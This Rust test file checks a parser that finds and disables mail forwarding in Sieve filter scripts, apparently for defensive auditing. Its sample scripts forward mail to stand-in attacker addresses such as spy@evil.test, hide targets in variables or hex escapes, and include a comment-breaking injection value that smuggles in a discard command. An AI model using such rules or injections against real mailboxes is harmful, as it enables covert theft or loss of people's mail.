use super::*;

fn internal() -> InternalDomains {
    InternalDomains::new(["example.test"])
}

fn targets(script: &str) -> Vec<(String, &'static str)> {
    read(script)
        .unwrap()
        .forwards
        .into_iter()
        .map(|f| (f.target, f.how))
        .collect()
}

#[test]
fn finds_redirects_at_top_level_and_in_blocks() {
    let script = r#"require ["copy", "fileinto"];
# redirect "in-a-comment@evil.test";
/* redirect "in-a-block-comment@evil.test"; */
redirect "top@elsewhere.test";
if header :contains "subject" "redirect \"x\";" {
    redirect :copy "nested@elsewhere.test";
} elsif address :is "from" "boss@example.test" {
    fileinto "Boss";
    redirect "assistant@example.test";
} else {
    if true { redirect text:
deep@elsewhere.test
.
; }
}
"#;
    let found: Vec<String> = targets(script).into_iter().map(|(t, _)| t).collect();
    assert_eq!(
        found,
        [
            "top@elsewhere.test",
            "nested@elsewhere.test",
            "assistant@example.test",
            "deep@elsewhere.test\n"
        ]
    );
}

#[test]
fn hidden_targets_count_as_outside() {
    let script = "require [\"variables\", \"encoded-character\"];\n\
        set \"t\" \"x@example.test\";\n\
        redirect \"${t}\";\n\
        redirect \"${hex:78}@example.test\";\n\
        redirect \"inside@example.test\";\n";
    let reading = read(script).unwrap();
    let outside: Vec<&str> = reading
        .forwards
        .iter()
        .filter(|f| !f.is_internal(&internal()))
        .map(|f| f.target.as_str())
        .collect();
    assert_eq!(outside, ["${t}", "${hex:78}@example.test"]);
}

#[test]
fn notifications_and_programs_are_forwarding() {
    let script = r#"require ["enotify", "vnd.dovecot.pipe", "vnd.dovecot.execute"];
notify :importance "1" :message "new mail" "mailto:spy@evil.test?subject=x";
notify :method "mailto" :options ["old@evil.test"];
notify "xmpp:spy@evil.test";
notify :message "team" "mailto:team@example.test";
pipe "sendmail";
execute :pipe "forwarder";
"#;
    let found = targets(script);
    assert_eq!(
        found,
        [
            ("spy@evil.test".to_string(), "notify"),
            ("old@evil.test".to_string(), "notify"),
            ("xmpp:spy@evil.test".to_string(), "notify"),
            ("team@example.test".to_string(), "notify"),
            ("program sendmail".to_string(), "pipe"),
            ("program forwarder".to_string(), "execute"),
        ]
    );
    let reading = read(script).unwrap();
    let inside: Vec<bool> = reading
        .forwards
        .iter()
        .map(|f| f.is_internal(&internal()))
        .collect();
    assert_eq!(inside, [false, false, false, true, false, false]);
}

#[test]
fn includes_are_listed_personal_and_global() {
    let script = "require \"include\";\ninclude :personal \"fwd\";\nif true { include :global :once \"company\"; }\n";
    let includes = read(script).unwrap().includes;
    let names: Vec<(&str, bool)> = includes
        .iter()
        .map(|i| (i.name.as_str(), i.global))
        .collect();
    assert_eq!(names, [("fwd", false), ("company", true)]);
}

#[test]
fn replacing_keeps_every_other_byte() {
    let script = "require \"fileinto\";\nif header :contains \"subject\" \"x\" { fileinto \"X\"; redirect \"out@elsewhere.test\"; }\nredirect \"in@example.test\";\nkeep;\n";
    let reading = read(script).unwrap();
    let out = &reading.forwards[0];
    let mut changes = vec![(out.span.clone(), comment("redirect to out@elsewhere.test"))];
    assert_eq!(
        replace(script, &mut changes),
        "require \"fileinto\";\nif header :contains \"subject\" \"x\" { fileinto \"X\"; /* airdesk: turned off redirect to out@elsewhere.test */ }\nredirect \"in@example.test\";\nkeep;\n"
    );
}

#[test]
fn a_hostile_target_cannot_close_the_comment() {
    let script = "redirect \"x*/ discard; /*@evil.test\";";
    let f = &read(script).unwrap().forwards[0];
    let mut changes = vec![(
        f.span.clone(),
        comment(&format!("redirect to {}", f.target)),
    )];
    let out = replace(script, &mut changes);
    assert_eq!(
        out,
        "/* airdesk: turned off redirect to x* / discard; /*@evil.test */"
    );
    assert!(read(&out).unwrap().forwards.is_empty());
}

#[test]
fn unreadable_scripts_are_refused() {
    assert!(read("redirect \"open@evil.test;").is_err());
    assert!(read("/* never closed").is_err());
    assert!(read("if true { redirect \"a@b.test\";").is_err());
    assert!(read("redirect \"a@b.test\"").is_err());
    assert!(read("} redirect \"a@b.test\";").is_err());
}
